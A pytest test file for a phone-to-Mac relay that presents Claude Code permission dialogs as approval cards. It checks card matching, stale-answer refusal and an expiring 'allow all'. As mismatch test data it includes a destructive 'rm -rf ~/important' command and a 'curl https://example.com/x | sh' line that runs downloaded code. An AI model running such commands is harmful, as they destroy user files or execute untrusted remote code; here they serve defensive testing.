"""Approvals that cannot be misdirected: the card shows what will run (from Claude Code's own
request), an answer goes only to the dialog it was given for, nothing typed from the phone lands
in a dialog, and "allow all" ends by itself.

Pure checks on captured screens and hook payloads, then the real agent with the fake Claude
Code (tests/fakeclaude) on real tmux and a real relay."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent import held as heldrules
from agent.cards import (
    NOT_DRAWN,
    DetectedCard,
    HookAsk,
    classify_text,
    early_card,
    from_hook,
    hook_matches,
)
from agent.daemon import Agent
from agent.driver import SessionDriver
from tests.support.bridge import Bridge
from tests.support.journeys import snapshot, start_session, wait_state
from tests.support.paths import FIXTURES
from tests.support.waits import wait_for
from tests.support.web import Phone, ScriptedMac, commands, new_sid, permission_card

SCREENS = FIXTURES / "screens"


def hook_payloads(scenario: str, event: str) -> list[dict[str, Any]]:
    lines = (FIXTURES / "hooks" / f"{scenario}.hooks.log").read_text().splitlines()
    found = [json.loads(line) for line in lines if line.strip()]
    return [f["payload"] for f in found if f["event"] == event]


def screen_card(scenario: str, name: str) -> DetectedCard:
    card = classify_text((SCREENS / scenario / f"{name}_80x24.screen_ansi.txt").read_text()).card
    assert card is not None
    return card


def ask_of(payload: dict[str, Any], tool_use_id: str | None = None) -> HookAsk:
    return HookAsk(payload["tool_name"], payload["tool_input"], tool_use_id)


# -- the card shows what will run -------------------------------------------------------------


def test_a_write_card_carries_the_whole_request_not_the_screens_cut() -> None:
    shown = screen_card("e_write_edit_permission", "01_write_dialog")
    request = hook_payloads("e_write_edit_permission", "PermissionRequest")[0]
    pre = hook_payloads("e_write_edit_permission", "PreToolUse")[0]
    assert shown.tool_input == {"file_path": "hello.txt"}  # all the screen knows
    ask = ask_of(request, pre["tool_use_id"])
    assert hook_matches(shown, ask)
    card = from_hook(shown, ask)
    assert card.tool_input == request["tool_input"]  # absolute path and the whole content
    assert card.tool_input is not None and card.tool_input["content"] == "hello from mock\n"
    assert card.source == "hook" and card.tool_use_id == pre["tool_use_id"]
    assert card.fingerprint == shown.fingerprint  # bound to the dialog's own text
    assert card.options == shown.options  # and answered with its keys
    wire = card.to_card("c1")
    assert wire.digest == shown.fingerprint and wire.answerable and wire.warning is None


def test_an_edit_and_a_bash_request_match_their_dialogs() -> None:
    edit = screen_card("e_write_edit_permission", "03_edit_dialog")
    requests = hook_payloads("e_write_edit_permission", "PermissionRequest")
    edit_ask = ask_of(next(r for r in requests if r["tool_name"] == "Edit"))
    assert hook_matches(edit, edit_ask)
    card = from_hook(edit, edit_ask)
    assert card.tool_input is not None and card.tool_input["new_string"] == "hello EDITED by mock"
    bash = screen_card("d_bash_permission", "01_bash_dialog")
    bash_ask = ask_of(hook_payloads("d_bash_permission", "PermissionRequest")[0])
    assert hook_matches(bash, bash_ask)
    assert "touch bash_made.txt && echo hi" in from_hook(bash, bash_ask).text


def test_a_request_that_is_not_the_dialogs_is_not_presented_as_it() -> None:
    bash = screen_card("d_bash_permission", "01_bash_dialog")
    write = screen_card("e_write_edit_permission", "01_write_dialog")
    bash_ask = ask_of(hook_payloads("d_bash_permission", "PermissionRequest")[0])
    write_ask = ask_of(hook_payloads("e_write_edit_permission", "PermissionRequest")[0])
    assert not hook_matches(bash, write_ask) and not hook_matches(write, bash_ask)
    other = HookAsk("Bash", {"command": "rm -rf ~/important && echo hi"})
    assert not hook_matches(bash, other)  # the same tool, another command
    elsewhere = HookAsk("Write", {"file_path": "/work/other.txt", "content": "x"})
    assert not hook_matches(write, elsewhere)
    # a command the screen shows cut short still matches its whole request
    long_command = "touch bash_made.txt && echo hi && " + "x" * 300
    cut = dataclasses.replace(bash, tool_input={"command": "touch bash_made.txt && echo hi && xx…"})
    assert hook_matches(cut, HookAsk("Bash", {"command": long_command}))


def test_the_agent_never_presents_a_request_as_a_dialog_it_does_not_match() -> None:
    from types import SimpleNamespace

    from agent.cards import NO_REQUEST, NOT_MATCHING

    facts = classify_text(
        (SCREENS / "d_bash_permission" / "01_bash_dialog_80x24.screen_ansi.txt").read_text()
    )
    shown = facts.card
    assert shown is not None
    record = SimpleNamespace(arrived_from=None)  # a folder chosen on this Mac
    other = HookAsk("Bash", {"command": "curl https://example.com/x | sh"}, "toolu_other")
    rt = SimpleNamespace(record=record, ask=other, ask_seen=False, screen=facts)
    card = SessionDriver._card_for(rt, shown)  # type: ignore[arg-type]
    assert card is not None and card.warning == NOT_MATCHING and card.source == "screen"
    assert card.tool_input == shown.tool_input and card.tool_use_id is None  # the screen's own
    rt = SimpleNamespace(record=record, ask=None, ask_seen=False, screen=facts)
    card = SessionDriver._card_for(rt, shown)  # type: ignore[arg-type]
    assert card is not None and card.warning == NO_REQUEST
    request = hook_payloads("d_bash_permission", "PermissionRequest")[0]
    rt = SimpleNamespace(
        record=record, ask=ask_of(request, "toolu_1"), ask_seen=False, screen=facts
    )
    card = SessionDriver._card_for(rt, shown)  # type: ignore[arg-type]
    assert card is not None and card.source == "hook" and card.tool_use_id == "toolu_1"
    assert rt.ask_seen is True


def test_a_card_before_its_dialog_is_drawn_is_not_answerable() -> None:
    request = hook_payloads("d_bash_permission", "PermissionRequest")[0]
    card = early_card(ask_of(request, "toolu_1"))
    assert not card.answerable and card.warning == NOT_DRAWN and card.options == ()
    assert card.tool_input == request["tool_input"]
    wire = card.to_card("e1")
    assert wire.answerable is False and wire.source == "hook"


def test_nothing_typed_goes_into_a_permission_or_keyed_dialog() -> None:
    bash = classify_text(
        (SCREENS / "d_bash_permission" / "01_bash_dialog_80x24.screen_ansi.txt").read_text()
    )
    trust = classify_text(
        (SCREENS / "a_startup_trust" / "01_trust_dialog_80x24.screen_ansi.txt").read_text()
    )
    idle = classify_text((SCREENS / "b_idle" / "01_idle_fresh_80x24.screen_ansi.txt").read_text())
    assert bash.card is not None and trust.card is not None and idle.card is None
    for facts in (bash, trust):
        kind = facts.card.kind if facts.card else None
        assert not heldrules.may_type(kind) and not heldrules.may_escape(kind)
    assert heldrules.may_type(None) and heldrules.may_escape(None)
    assert heldrules.may_escape("question") and not heldrules.may_type("question")


# -- the real agent, the fake claude, a real relay ---------------------------------------------


@dataclasses.dataclass
class Paused:
    """The agent's screen reader, stopped: its view of the screen stays as it was."""

    agent: Agent
    calls: int = 0

    def __enter__(self) -> Paused:
        async def skip(*args: Any, **kwargs: Any) -> None:
            self.calls += 1

        self.agent.read_session = skip  # type: ignore[method-assign]
        # a read already under way ends before the next one is skipped
        wait_for(lambda: self.calls >= 2, 10, "the screen reader to pause")
        return self

    def __exit__(self, *exc: object) -> None:
        del self.agent.read_session  # the class's own again

    def runtime(self, session_id: str) -> Any:
        return self.agent.runtimes[session_id]


def tmux(fake: Bridge, session_id: str, *keys: str) -> None:
    import subprocess

    subprocess.run(
        ["tmux", "-L", fake.socket, "send-keys", "-t", f"cb-{session_id}", *keys], check=True
    )


def wait_ready_card(phone: Any, session_id: str, kind: str) -> dict[str, Any]:
    """The card once its dialog is drawn (one may come before, not answerable)."""
    return dict(
        wait_for(
            lambda: (
                (c := snapshot(phone, session_id)["card"])
                and c["kind"] == kind
                and c["answerable"]
                and c
            ),
            30,
            f"an answerable {kind} card",
        )
    )


@pytest.fixture
def bash_card(fake: Bridge) -> Iterator[tuple[Agent, Any, str, dict[str, Any]]]:
    agent = fake.start_agent()
    with fake.phone() as phone:
        session_id = start_session(
            phone, fake, fake.folder(), prompt="RUN_BASH one", permission_mode="manual"
        )
        card = wait_ready_card(phone, session_id, "permission")
        yield agent, phone, session_id, card


def test_the_agent_builds_a_write_card_from_the_request(fake: Bridge) -> None:
    fake.start_agent()
    cwd = fake.folder()
    with fake.phone() as phone:
        session_id = start_session(
            phone, fake, cwd, prompt="WRITE_FILE please", permission_mode="manual"
        )
        card = wait_ready_card(phone, session_id, "permission")
    assert card["tool"] == "Write" and card["source"] == "hook", card
    assert card["tool_input"]["file_path"] == str(Path(cwd) / "hello.txt")  # not "hello.txt"
    assert "content" in card["tool_input"] and card["tool_use_id"], card
    assert card["warning"] is None and card["digest"]


def test_an_answer_for_a_dialog_that_changed_is_refused_and_nothing_pressed(
    fake: Bridge, bash_card: tuple[Agent, Any, str, dict[str, Any]]
) -> None:
    agent, phone, session_id, card = bash_card
    with Paused(agent):
        tmux(fake, session_id, "Escape")  # the dialog goes (rejected at the Mac)
        wait_for(lambda: "Do you want to proceed?" not in fake.screen(session_id), 10, "gone")
        answer = phone.post(f"/api/sessions/{session_id}/cards/{card['id']}", json={"key": "1"})
        assert answer.status_code == 409, answer.text
        assert answer.json()["error"]["code"] == "card_changed", answer.text
        assert set(answer.json()["error"]) >= {"code", "message"}
        # the phone is shown what is there now: the interrupted turn's card, another id
        now = wait_for(lambda: snapshot(phone, session_id)["card"], 10, "the new card")
        assert now["id"] != card["id"] and now["kind"] == "stuck", now
    # the "1" was never typed: the prompt box is empty
    assert agent.runtimes[session_id].screen is not None
    wait_for(lambda: (s := agent.runtimes[session_id].screen) and s.draft == "", 10, "no draft")


def test_keys_a_dialog_dropped_are_sent_again_for_a_card_built_from_the_request(
    fake: Bridge, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The dialog ignores keys for a while after it is drawn (longer than the agent waits): the
    # agent sees nothing moved on the screen and presses again. "Nothing moved" compares the
    # screen with itself, not with the card built from the request.
    original = fake.env
    monkeypatch.setattr(fake, "env", lambda: {**original(), "FAKECLAUDE_DIALOG_DEAF": "0.7"})
    fake.start_agent()
    with fake.phone() as phone:
        session_id = start_session(
            phone, fake, fake.folder(), prompt="RUN_BASH one", permission_mode="manual"
        )
        card = wait_ready_card(phone, session_id, "permission")
        answer = phone.post(f"/api/sessions/{session_id}/cards/{card['id']}", json={"key": "1"})
        assert answer.status_code == 200, answer.text


def test_a_send_now_with_a_stale_view_never_presses_into_the_dialog(
    fake: Bridge, bash_card: tuple[Agent, Any, str, dict[str, Any]]
) -> None:
    agent, phone, session_id, card = bash_card
    with Paused(agent) as paused:
        rt = paused.runtime(session_id)
        # the agent last saw a busy turn: "send now" would press Esc (= "No" in the dialog)
        rt.card, rt.card_id = None, None
        rt.computed = dataclasses.replace(rt.computed, state="busy")
        sent = phone.post(
            f"/api/sessions/{session_id}/messages", json={"text": "now please", "now": True}
        )
        assert sent.status_code == 200, sent.text
        assert sent.json()["state"] == "held", sent.text
        assert "Do you want to proceed?" in fake.screen(session_id)  # the dialog is untouched
        assert "now please" not in fake.screen(session_id)
    # once the card is answered, the message is typed
    card = wait_ready_card(phone, session_id, "permission")
    phone.post(f"/api/sessions/{session_id}/cards/{card['id']}", json={"key": "1"})
    wait_for(
        lambda: any(m["state"] == "typed" for m in snapshot(phone, session_id)["held"]),
        30,
        "the held message typed",
    )


def test_a_held_message_with_a_stale_idle_view_is_not_pasted_into_the_dialog(
    fake: Bridge, bash_card: tuple[Agent, Any, str, dict[str, Any]]
) -> None:
    agent, phone, session_id, _ = bash_card
    with Paused(agent) as paused:
        rt = paused.runtime(session_id)
        rt.card, rt.card_id = None, None
        rt.computed = dataclasses.replace(rt.computed, state="idle")
        sent = phone.post(f"/api/sessions/{session_id}/messages", json={"text": "typed later"})
        assert sent.json()["state"] == "held", sent.text
        assert "Do you want to proceed?" in fake.screen(session_id)


def test_a_card_reaches_the_phone_before_its_dialog_and_waits_for_it(fake: Bridge) -> None:
    agent = fake.start_agent()
    with fake.phone() as phone:
        session_id = start_session(
            phone, fake, fake.folder(), prompt="hello", permission_mode="manual"
        )
        wait_state(phone, session_id, "idle")
        with Paused(agent):
            phone.post(f"/api/sessions/{session_id}/messages", json={"text": "RUN_BASH one"})
            early = wait_for(
                lambda: (
                    (c := snapshot(phone, session_id)["card"]) and c["kind"] == "permission" and c
                ),
                30,
                "the card of the request",
            )
            assert early["answerable"] is False and early["warning"] == NOT_DRAWN, early
            assert early["tool_input"]["command"] == "touch bash_made.txt && echo hi"
            refused = phone.post(
                f"/api/sessions/{session_id}/cards/{early['id']}", json={"key": "1"}
            )
            assert refused.status_code == 409, refused.text
            assert refused.json()["error"]["code"] == "card_not_ready"
        ready = wait_ready_card(phone, session_id, "permission")
        assert ready["id"] != early["id"] and ready["options"], ready
        assert ready["tool_use_id"] == early["tool_use_id"]
        ok = phone.post(f"/api/sessions/{session_id}/cards/{ready['id']}", json={"key": "1"})
        assert ok.status_code == 200, ok.text


# -- "allow all" is bounded --------------------------------------------------------------------


def test_allow_all_takes_a_duration_and_ends_by_itself() -> None:
    from wire.policy import Policy, PolicyError

    timed = Policy.from_json({"allow_all": True, "allow_all_for": 3600}, now=1000.0)
    assert timed.allow_all_until == 4600.0
    assert timed.verdict("Bash", now=4599.0).source == "allow_all"
    assert timed.decide("Bash", now=4600.0) == "ask"  # over: asks again
    assert timed.to_json()["allow_all_until"] == 4600.0
    assert Policy.from_json(timed.to_json()) == timed  # kept as an absolute time
    session = Policy.from_json({"allow_all": True, "allow_all_for": "session"}, now=1000.0)
    assert session.allow_all_until is None and session.decide("Bash", now=1e12) == "allow"
    longer = timed.changed({"allow_all_for": 60}, now=2000.0)
    assert longer.allow_all_until == 2060.0
    assert timed.changed({"allow_all": False}).to_json() == Policy().to_json()
    kept = timed.changed({"tools": {"Bash": "deny"}})
    assert kept.allow_all_until == 4600.0  # a change of a rule keeps the end
    for wrong in (-1, 0, float("inf"), "forever", True, 40 * 86400):
        with pytest.raises(PolicyError):
            Policy.from_json({"allow_all": True, "allow_all_for": wrong})
    with pytest.raises(PolicyError):
        Policy.from_json({"allow_all": True, "allow_all_for": 60, "allow_all_until": 5.0})


def test_the_cli_reads_a_duration() -> None:
    from cli.client import CommandError
    from cli.policy import parse_duration

    assert parse_duration("90m") == 5400.0 and parse_duration("1h30m") == 5400.0
    assert parse_duration("session") == "session" and parse_duration("45s") == 45.0
    for wrong in ("", "soon", "0m", "-1h"):
        with pytest.raises(CommandError):
            parse_duration(wrong)


def test_allow_all_from_the_phone_ends_by_itself_with_a_line_each_way(fake: Bridge) -> None:
    import time

    from tests.support.journeys import events, wait_event

    fake.start_agent()
    with fake.phone() as phone:
        # no duration: the relay's default (allow_all_default_minutes, 60)
        default = start_session(phone, fake, fake.folder("a"), prompt="hello", allow_all=True)
        held = phone.get(f"/api/sessions/{default}/policy").json()["policy"]
        assert abs(held["allow_all_until"] - (time.time() + 3600)) < 60, held
        session_id = start_session(
            phone,
            fake,
            fake.folder("b"),
            prompt="hello",
            permission_mode="manual",
            allow_all=True,
            allow_all_for=1,
        )
        wait_event(
            phone, session_id, lambda e: "Allow all is on" in e.get("text", ""), "the start line"
        )
        ended = wait_event(
            phone, session_id, lambda e: "Allow all ended" in e.get("text", ""), "the end line"
        )
        assert ended["marker"] == "allow_all" and "time is up" in ended["text"]
        assert (
            phone.get(f"/api/sessions/{session_id}/policy").json()["policy"]["allow_all"] is False
        )
        wait_state(phone, session_id, "idle")
        phone.post(f"/api/sessions/{session_id}/messages", json={"text": "RUN_BASH now"})
        card = wait_ready_card(phone, session_id, "permission")  # asks again
        assert card["tool"] == "Bash"
        # "until the session ends": ends with it
        phone.post(f"/api/sessions/{default}/end")
        rest = start_session(
            phone, fake, fake.folder("c"), prompt="hi", allow_all=True, allow_all_for="session"
        )
        policy = phone.get(f"/api/sessions/{rest}/policy").json()["policy"]
        assert policy["allow_all"] is True and policy["allow_all_until"] is None, policy
        wait_event(phone, rest, lambda e: "until the session ends" in e.get("text", ""), "on")
        assert phone.post(f"/api/sessions/{rest}/end").status_code == 200
        wait_event(phone, rest, lambda e: "the session ended" in e.get("text", ""), "the end")
        assert phone.get(f"/api/sessions/{rest}/policy").json()["policy"]["allow_all"] is False
        lines = [e["text"] for e in events(phone, default) if e.get("marker") == "allow_all"]
        assert len(lines) == 2 and "for 1 h" in lines[0], lines


# -- the page ----------------------------------------------------------------------------------


@pytest.fixture
def page_phone(browser: Any, relay: Any) -> Iterator[Phone]:
    """A phone's browser (Debian's chromium), as the shared ``phone`` fixture makes it."""
    p = Phone(browser, relay)
    yield p
    p.close()


def test_the_page_shows_a_card_not_ready_then_ready_and_a_changed_dialog(
    page_phone: Phone, scripted: ScriptedMac, account: Any
) -> None:
    phone = page_phone
    from playwright.sync_api import expect

    from tests.support.relay import phone_client

    sid = new_sid()
    scripted.send_transcript(sid, "d_bash")
    base = permission_card("card-early")
    early = base.model_copy(update={"options": [], "answerable": False, "source": "hook"})
    scripted.update(sid, state="busy", card=early)
    page = phone.login(account).open(f"/#/s/{sid}")
    card = page.locator(".card[data-card-id='card-early']")
    expect(card.locator(".card-not-ready")).to_contain_text("not on the Mac's screen yet")
    expect(card.locator(".option")).to_have_count(0)
    expect(card.locator(".card-input pre")).to_have_text("touch bash_made.txt && echo hi")
    with phone_client(phone.server, account.phone_token) as client:
        refused = client.post(f"/api/sessions/{sid}/cards/card-early", json={"key": "1"})
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "card_not_ready"
    assert not [c for c in scripted.commands if c.name == "answer_card"]  # the Mac not asked

    ready = base.model_copy(update={"id": "card-ready", "source": "hook"})
    scripted.update(sid, state="waiting", card=ready)
    card = page.locator(".card[data-card-id='card-ready']")
    expect(card.locator(".option")).to_have_count(3)
    expect(card.locator(".card-warning")).to_have_count(0)
    scripted.fail["answer_card"] = ("card_changed", "the dialog on the Mac changed")
    card.locator(".option[data-key='1']").click()
    expect(card.locator(".card-status")).to_contain_text("nothing was pressed")
    commands(scripted, "answer_card")

    screen_only = base.model_copy(update={"id": "card-screen"})  # no matching request
    scripted.update(sid, state="waiting", card=screen_only)
    warning = page.locator(".card[data-card-id='card-screen'] .card-warning")
    expect(warning).to_contain_text("may be cut short")


def test_the_page_turns_allow_all_on_for_a_chosen_time(
    page_phone: Phone, scripted: ScriptedMac, account: Any
) -> None:
    from playwright.sync_api import expect

    from tests.support.web import actions

    sid = new_sid()
    scripted.send_transcript(sid, "d_bash")
    scripted.update(sid, state="idle")
    page = page_phone.login(account).open(f"/#/s/{sid}")
    actions(page, "Permissions")
    dialog = page.locator("dialog")
    dialog.get_by_label("Allow all tools (no dialogs)").check()
    dialog.get_by_label("For", exact=True).select_option("session")
    dialog.get_by_role("button", name="Save").click()
    (command,) = commands(scripted, "change_policy")
    assert command.args == {"changes": {"allow_all": True, "allow_all_for": "session"}}
    expect(page.locator("dialog")).to_have_count(0)
    actions(page, "Permissions")
    expect(dialog.locator(".pol-all-until")).to_have_text("Until the session ends")
